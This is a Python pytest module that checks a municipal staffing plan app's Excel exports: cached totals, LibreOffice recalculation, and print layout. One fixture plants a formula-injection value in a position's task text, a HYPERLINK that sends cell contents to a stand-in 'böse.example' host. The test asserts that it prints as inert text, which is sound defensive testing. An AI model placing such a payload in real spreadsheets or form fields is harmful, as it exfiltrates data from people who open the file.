"""Every Excel export, downloaded through its page, read by every kind of reader and printed
(issue 23).

- Readers without a calc engine (python-calamine, openpyxl ``data_only``) find every total as
  a value: each formula cell carries its cached result, and the reference figures 13,5 Stellen,
  1.128.560 €, 405.768 € and 722.792 € are in the files.
- LibreOffice recalculates every formula to the cached value (to the cent).
- LibreOffice prints every sheet with no text below 8 pt (measured from the PDF: the size of
  every character drawn, pypdf), and the page header and number on every page.

The four files are fetched once per module, and LibreOffice runs twice for all of them
together (recalculate, print).
"""

from __future__ import annotations

import math
import shutil
import subprocess
from datetime import date
from decimal import ROUND_HALF_UP, Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from departments.models import OrgUnit
from stellenplan.models import PayGrade
from tests.costing.test_excel_libreoffice import RECALC_ALWAYS
from tests.factories import PositionFactory
from tests.stellenplan.plan_fixtures import reference_plan

pytestmark = pytest.mark.usefixtures("seed")

FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'
REFERENCE = {Decimal("13.5"), Decimal("1128560"), Decimal("405768"), Decimal("722792")}
MIN_PRINTED_POINTS = 8
CENT = Decimal("0.01")


@pytest.fixture(scope="module")
def files(seed_world, django_db_blocker, tmp_path_factory) -> dict[str, Path]:
    """The four exports as a clerk downloads them (Kämmerei), saved under tmp."""
    assert seed_world, "the module shares the reference world"
    folder = tmp_path_factory.mktemp("exports")
    with django_db_blocker.unblock():
        from django.contrib.auth import get_user_model

        user = get_user_model().objects.create_user("kaemmerei-exporte")
        user.groups.add(Group.objects.get(name="Kämmerei"))
        plan = reference_plan()
        PositionFactory(
            org_unit=OrgUnit.objects.get(code="20-4"),
            pay_grade=PayGrade.objects.get(code="A 8"),
            title="Formeltext",
            tasks=FORMULA,
            start_date=date(2013, 1, 1),  # not in 2012: the reference figures stay
        )
        client = Client()
        client.force_login(user)
        urls = {
            "kosten": reverse("excel:export") + "?year=2012",
            "finanzplanung": reverse("costs:projection_export") + "?year=2013",
            "stellenplan": reverse("plandoc:excel", args=[plan.pk]),
            "bedarf": reverse("need:export"),
        }
        result = {}
        for name, url in urls.items():
            response = client.get(url)
            assert response.status_code == 200, (name, response.status_code)
            path = folder / f"{name}.xlsx"
            path.write_bytes(b"".join(response.streaming_content))
            result[name] = path
    return result


def formula_cells(path: Path) -> dict[tuple[str, int, int], str]:
    """(sheet, row, column) of every formula cell (1-based), with its formula."""
    book = load_workbook(path)
    return {
        (ws.title, cell.row, cell.column): cell.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def calamine_values(path: Path) -> dict[str, list[list]]:
    book = CalamineWorkbook.from_path(str(path))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def numbers(rows: list[list]) -> set[Decimal]:
    return {
        Decimal(repr(v)).quantize(CENT)
        for row in rows
        for v in row
        if isinstance(v, int | float) and not isinstance(v, bool)
    }


def test_readers_without_a_calc_engine_see_every_total(files):
    for name, path in files.items():
        formulas = formula_cells(path)
        if name != "bedarf":  # the need sheet has no formulas, only values
            assert formulas, name
        cached = load_workbook(path, data_only=True)
        calamine = calamine_values(path)
        for (sheet, row, column), formula in formulas.items():
            value = cached[sheet].cell(row, column).value
            assert isinstance(value, int | float), (name, sheet, row, column, formula, value)
            other = calamine[sheet][row - 1][column - 1]
            assert other == pytest.approx(value), (name, sheet, row, column)


def test_the_reference_figures_are_values_in_the_files(files):
    costs = calamine_values(files["kosten"])
    overview = costs["Übersicht"]
    total = next(r for r in overview if r[1] == "Gesamt")
    assert total[2:7] == [13.5, 1128560, 1128560, 405768, 722792]
    assert numbers(overview) >= REFERENCE
    stellen = costs["Stellen"]
    header = stellen[3]
    # every position listed: the 13,5 Stellen of 2012 and the one from 2013 with the formula text
    assert stellen[2][header.index("Anzahl der Stellen")] == 14.5
    assert stellen[2][header.index("Kosten 2012")] == 1128560

    projection = calamine_values(files["finanzplanung"])["Finanzplanung"]
    header = projection[3]
    grand = next(r for r in projection if r[0] == "Gesamtsumme")
    column = header.index("Brutto 2012")
    assert grand[column : column + 3] == [1128560, 405768, 722792]

    plan = calamine_values(files["stellenplan"])["Stellenplan 2012"]
    assert 13.5 in next(r for r in plan if str(r[0]).startswith("Gesamtsumme"))

    need = load_workbook(files["bedarf"], data_only=True).active
    requested = [r for r in need.iter_rows(values_only=True) if r[2] == "Beantragte Stellen"]
    assert requested and all(isinstance(r[5], float | int) for r in requested)


# --- LibreOffice -------------------------------------------------------------------------------


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    assert found, "LibreOffice (soffice) fehlt: bitte `make system-deps` ausführen."
    return found


def convert(paths: list[Path], target: str, work: Path, *, recalculate: bool = False) -> Path:
    """All `paths` converted by one LibreOffice run into `work/target`."""
    profile = work / f"lo-profile-{target}"
    (profile / "user").mkdir(parents=True)
    if recalculate:
        (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS)
    out = work / target
    done = subprocess.run(
        [
            soffice(),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    for path in paths:
        assert (out / f"{path.stem}.{target}").exists(), done.stdout + done.stderr
    return out


def calibri_metrics() -> None:
    """LibreOffice lays out the workbooks' Calibri with Calibri or its metric twin Carlito (as
    Excel does); with another font the columns come out a third wider."""
    match = subprocess.run(["fc-match", "Calibri"], capture_output=True, text=True).stdout
    assert "Carlito" in match or "Calibri" in match, (
        f"Calibri wird als {match.strip()!r} gedruckt: bitte `make system-deps` ausführen "
        "(Debian-Paket fonts-crosextra-carlito)."
    )


@pytest.fixture(scope="module")
def printed(files, tmp_path_factory) -> dict[str, Path]:
    calibri_metrics()
    work = tmp_path_factory.mktemp("printed")
    out = convert(list(files.values()), "pdf", work)
    return {name: out / f"{path.stem}.pdf" for name, path in files.items()}


def text_sizes(page) -> list[tuple[float, str]]:
    """The printed size (pt) of every text the page draws: font size × the text and current
    transformation matrices' vertical scale."""
    sizes: list[tuple[float, str]] = []

    def visit(text, cm, tm, font_dict, font_size):
        if not text.strip():
            return
        a, b, c, d = (
            tm[0] * cm[0] + tm[1] * cm[2],
            tm[0] * cm[1] + tm[1] * cm[3],
            tm[2] * cm[0] + tm[3] * cm[2],
            tm[2] * cm[1] + tm[3] * cm[3],
        )
        del a, b
        sizes.append((font_size * math.hypot(c, d), text.strip()))

    page.extract_text(visitor_text=visit)
    return sizes


@pytest.mark.libreoffice
def test_libreoffice_recalculates_every_formula_to_its_cached_value(files, tmp_path):
    out = convert(list(files.values()), "xlsx", tmp_path, recalculate=True)
    for name, path in files.items():
        formulas = formula_cells(path)
        cached = load_workbook(path, data_only=True)
        recalculated = load_workbook(out / path.name, data_only=True)
        for sheet, row, column in formulas:
            ours = cached[sheet].cell(row, column).value
            theirs = recalculated[sheet].cell(row, column).value
            assert isinstance(theirs, int | float), (name, sheet, row, column, theirs)
            assert Decimal(repr(theirs)).quantize(CENT, ROUND_HALF_UP) == Decimal(
                repr(ours)
            ).quantize(CENT, ROUND_HALF_UP), (name, sheet, row, column)


@pytest.mark.libreoffice
def test_every_printed_page_has_no_text_below_8_pt(printed):
    report = {}
    for name, pdf in printed.items():
        reader = PdfReader(pdf)
        assert len(reader.pages) >= 1, name
        smallest = []
        for number, page in enumerate(reader.pages, 1):
            sizes = text_sizes(page)
            assert sizes, (name, number)
            size, text = min(sizes)
            smallest.append(round(size, 1))
            assert size >= MIN_PRINTED_POINTS, (name, number, round(size, 2), text)
            page_text = page.extract_text()
            assert f"Seite {number} von {len(reader.pages)}" in page_text, (name, number)
            assert "Stand: " in page_text, (name, number)
        report[name] = (len(reader.pages), min(smallest))
    print(report)
    # Sheets printed in blocks of columns repeat the columns that name a row on every page.
    for name, title, key in [
        ("kosten", "Stellenplan – Stellen und Kosten", "Org.einheit"),
        ("bedarf", "Personalbedarfsberechnung", "Bedarfsberechnung"),
        ("finanzplanung", "Finanzplanung", "Teilhaushalt"),
    ]:
        pages = [p.extract_text() for p in PdfReader(printed[name]).pages]
        blocks = [p for p in pages if p.startswith(title)]
        assert len(blocks) > 1, name
        assert all(key in p for p in blocks), name
    # Text that begins like a formula prints as it is: no apostrophe, not evaluated.
    text = "".join(page.extract_text() for page in PdfReader(printed["kosten"]).pages)
    assert "=HYPERLINK(" in text
    assert "'=HYPERLINK" not in text


def test_the_sources_cite_source_and_date_without_internal_notes(client, django_user_model):
    client.force_login(django_user_model.objects.create_user("leser"))
    response = client.get(reverse("costs:projection_export"), {"year": 2025})
    book = CalamineWorkbook.from_filelike(BytesIO(b"".join(response.streaming_content)))
    sources = book.get_sheet_by_name("Quellen und Annahmen").to_python()
    texts = [str(v) for row in sources for v in row if v]
    assert "vereinbart: TVöD-VKA, Tarifeinigung vom 22.04.2023: ab 01.03.2024 Sockelbetrag " in (
        "\n".join(texts)
    )
    for internal in ("DOMAIN.md", "geprüft über", "Gewerkschaftsseiten", "sekundär zitiert"):
        assert not [t for t in texts if internal in t], internal
